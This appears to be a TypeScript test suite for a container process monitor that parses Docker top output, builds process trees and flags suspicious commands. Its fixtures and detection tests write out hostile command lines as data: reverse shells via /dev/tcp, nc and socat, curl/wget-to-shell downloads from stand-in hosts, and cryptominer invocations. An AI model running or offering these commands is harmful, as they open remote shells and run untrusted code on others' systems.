import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parsePasswd } from '../../../main/core/processes/container-users';
import { diffProcesses } from '../../../main/core/processes/process-diff';
import { commandLineFlags } from '../../../main/core/processes/process-flags';
import { buildProcessTree } from '../../../main/core/processes/process-tree';
import { parseElapsed, parseTop, type PsRow } from '../../../main/core/processes/ps-table';

// Exactly what dockerd 20.10 returned for a busybox container with a nested shell, a subshell's
// background process and one `docker exec` session.
const TOP = {
  Titles: ['PID', 'PPID', 'PGID', 'SID', 'UID', 'ELAPSED', 'STAT', 'COMMAND'],
  Processes: [
    [
      '22776',
      '22755',
      '22776',
      '22776',
      '0',
      '61',
      'Ss',
      'sh -c sh -c "sleep 1001 & exec sleep 1002" & (sleep 1003 &) ; while true; do sleep 1; done',
    ],
    ['22803', '22776', '22776', '22776', '0', '61', 'S', 'sleep 1002'],
    ['22805', '22776', '22776', '22776', '0', '61', 'S', 'sleep 1003'],
    ['22807', '22803', '22776', '22776', '0', '61', 'S', 'sleep 1001'],
    ['22824', '22776', '22776', '22776', '0', '0', 'S', 'sleep 1'],
    ['22902', '22755', '22902', '22902', '0', '5', 'Ss', 'sleep 1004'],
    ['23001', '22755', '22990', '22990', '33', '2', 'S', 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    ['23002', '23001', '22990', '22990', '33', '1', 'Z', '[sh] <defunct>'],
  ],
};

function tree() {
  const { rows } = parseTop(TOP);
  return buildProcessTree({
    rows,
    initPid: 22776,
    execSessions: new Map([[22902, 'e00230464337904060026c65e36dd23e1a53e3718a67c6f683db04601c5a97a2']]),
    users: new Map([
      ['0', 'root'],
      ['33', 'www-data'],
    ]),
    takenAt: new Date('2024-05-01T12:00:00Z'),
  });
}

test('top output parses into rows with every column', () => {
  const parsed = parseTop(TOP);
  assert.deepEqual(parsed.missing, []);
  assert.equal(parsed.rows.length, 8);
  assert.deepEqual(parsed.rows[3], {
    pid: 22807,
    ppid: 22803,
    pgid: 22776,
    sid: 22776,
    uid: '0',
    elapsedSeconds: 61,
    state: 'S',
    args: 'sleep 1001',
  });
  const minimal = parseTop({
    Titles: ['UID', 'PID', 'PPID', 'C', 'STIME', 'TTY', 'TIME', 'CMD'],
    Processes: [
      ['root', '10', '1', '0', '12:00', '?', '00:00:00', 'nginx: master'],
      ['root', 'x', '1', '0', '', '', '', 'bad'],
    ],
  });
  assert.equal(minimal.rows.length, 1, 'a row with an unparsable PID is dropped');
  assert.deepEqual(minimal.missing, ['pgid', 'sid', 'elapsedSeconds', 'state']);
  assert.throws(() => parseTop({ Titles: ['USER', 'COMMAND'], Processes: [] }), /no PID column/);
});

test('elapsed time in both ps formats', () => {
  assert.equal(parseElapsed('61'), 61);
  assert.equal(parseElapsed('01:01'), 61);
  assert.equal(parseElapsed('02:00:01'), 7201);
  assert.equal(parseElapsed('3-00:00:10'), 259210);
  assert.equal(parseElapsed('soon'), null);
});

test('tree: parent links, entrypoint lineage, exec session, orphan, zombie', () => {
  const t = tree();
  const get = (pid: number) => t.processes.find((p) => p.pid === pid);
  assert.equal(get(22807)?.parent, 22803, 'the nested shell exec-ed into sleep 1002, whose child is sleep 1001');
  assert.equal(get(22803)?.parent, 22776);
  assert.equal(get(22805)?.parent, 22776, 'the subshell background process was adopted by init');
  assert.deepEqual(get(22776)?.children.sort(), [22803, 22805, 22824]);
  assert.equal(get(22776)?.isInit, true);
  assert.equal(get(22776)?.parent, null);
  for (const pid of [22776, 22803, 22805, 22807, 22824]) assert.equal(get(pid)?.inEntrypointLineage, true, `${pid} in lineage`);
  assert.equal(get(22902)?.inEntrypointLineage, false);
  assert.equal(get(22902)?.execId?.slice(0, 12), 'e00230464337');
  assert.deepEqual(
    get(22902)?.flags.map((f) => f.kind),
    ['exec-session'],
  );
  assert.deepEqual(
    get(23001)
      ?.flags.map((f) => f.kind)
      .sort(),
    ['orphan', 'reparented', 'reverse-shell'],
  );
  assert.equal(get(23001)?.user, 'www-data');
  assert.equal(get(23002)?.parent, 23001);
  assert.deepEqual(
    get(23002)?.flags.map((f) => f.kind),
    ['reparented', 'zombie'],
  );
  assert.equal(get(22807)?.startedAt, '2024-05-01T11:58:59.000Z');
  assert.equal(get(22807)?.depth, 2);
});

test('tree order: the flagged subtree first, then init, flagged list by severity', () => {
  const t = tree();
  assert.equal(t.processes[0]?.pid, 23001, 'reverse shell subtree first');
  assert.equal(t.processes[1]?.pid, 23002);
  assert.deepEqual(t.roots, [23001, 22902, 22776]);
  assert.equal(t.flagged[0], 23001);
  assert.deepEqual(new Set(t.flagged), new Set([23001, 22902, 23002]));
});

test('tree tolerates PID cycles and a missing init', () => {
  const rows: PsRow[] = [
    { pid: 1, ppid: 2, pgid: null, sid: null, uid: '0', elapsedSeconds: null, state: 'S', args: 'a' },
    { pid: 2, ppid: 1, pgid: null, sid: null, uid: '0', elapsedSeconds: null, state: 'S', args: 'b' },
  ];
  const t = buildProcessTree({ rows, initPid: 99, execSessions: new Map(), users: new Map(), takenAt: new Date() });
  assert.equal(t.processes.length, 2);
  assert.ok(t.processes.every((p) => !p.inEntrypointLineage));
});

test('command-line flags: attacks flagged, ordinary workloads not', () => {
  const kinds = (args: string) =>
    commandLineFlags(args)
      .map((f) => f.kind)
      .sort();
  assert.deepEqual(kinds('bash -i >& /dev/tcp/10.0.0.1/8080 0>&1'), ['reverse-shell']);
  assert.deepEqual(kinds('nc -e /bin/sh 198.51.100.7 4444'), ['reverse-shell']);
  assert.deepEqual(kinds('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f'), ['reverse-shell']);
  assert.deepEqual(kinds('socat tcp-connect:10.1.1.1:443 exec:/bin/bash,pty,stderr'), ['network-shell', 'reverse-shell']);
  assert.deepEqual(kinds('sh -c curl -fsSL http://198.51.100.4/x.sh | sh'), ['download-exec', 'network-shell']);
  assert.deepEqual(kinds('wget -q -O- http://evil.example/i | bash'), ['download-exec']);
  assert.deepEqual(kinds('sh -c echo Y3VybCB4 | base64 -d | sh'), ['download-exec', 'network-shell']);
  assert.deepEqual(kinds(`python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234))`), ['interpreter-network']);
  assert.deepEqual(kinds('perl -e use Socket;$i="10.0.0.1";'), ['interpreter-network']);
  assert.deepEqual(kinds('/tmp/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1'), ['miner', 'suspicious-path']);
  assert.deepEqual(kinds('./kdevtmpfsi'), ['miner']);
  assert.deepEqual(kinds('/usr/bin/sysupd --url pool.supportxmr.com:3333'), ['miner']);
  assert.deepEqual(kinds('/dev/shm/.hidden'), ['suspicious-path']);
  for (const benign of [
    'nginx: worker process',
    'httpd -f -p 8080 -h /var/www/html',
    'sh -c exec nginx -g "daemon off;"',
    'python3 /app/server.py --port 8000',
    'sh -c curl -fsS http://localhost:8080/health || exit 1',
    'postgres: checkpointer',
    'sleep 3600',
    'node /srv/index.js',
    '/bin/bash /docker-entrypoint.sh mysqld',
  ]) {
    assert.deepEqual(kinds(benign), [], benign);
  }
});

test('flag patterns stay fast on hostile, huge titles', () => {
  const huge = `sh -c ${'mkfifo |'.repeat(20000)}`;
  const started = process.hrtime.bigint();
  commandLineFlags(huge);
  commandLineFlags(`nc ${'-e '.repeat(50000)}`);
  const ms = Number(process.hrtime.bigint() - started) / 1e6;
  assert.ok(ms < 2000, `took ${ms} ms`);
});

test('passwd: first entry wins, junk ignored', () => {
  const users = parsePasswd(
    'root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n\nbad line\nwww-data:x:33:33::/var/www:/bin/false\nx:x:notanumber:1::/:/\n',
  );
  assert.deepEqual(
    [...users.entries()],
    [
      ['0', 'root'],
      ['33', 'www-data'],
    ],
  );
});

test('diff between samples: appeared, vanished, PID reuse and re-parenting', () => {
  const t1 = tree().processes;
  const t2 = tree()
    .processes.filter((p) => p.pid !== 22824)
    .map((p) => (p.pid === 22807 ? { ...p, ppid: 22776 } : p));
  const reused = { ...t2.find((p) => p.pid === 22805)!, startedAt: '2024-05-01T11:59:50.000Z', args: 'sleep 9999' };
  const t3 = [...t2.filter((p) => p.pid !== 22805), reused, { ...t2[0]!, pid: 30000, args: 'new one' }];
  const changes = diffProcesses(t1, t3)
    .map((c) => `${c.kind}:${c.pid}`)
    .sort();
  assert.deepEqual(changes, ['appeared:22805', 'appeared:30000', 'reparented:22807', 'vanished:22805', 'vanished:22824']);
  const reparented = diffProcesses(t1, t3).find((c) => c.kind === 'reparented');
  assert.equal(reparented?.previousPpid, 22803);
  assert.deepEqual(diffProcesses(t1, tree().processes), []);
});
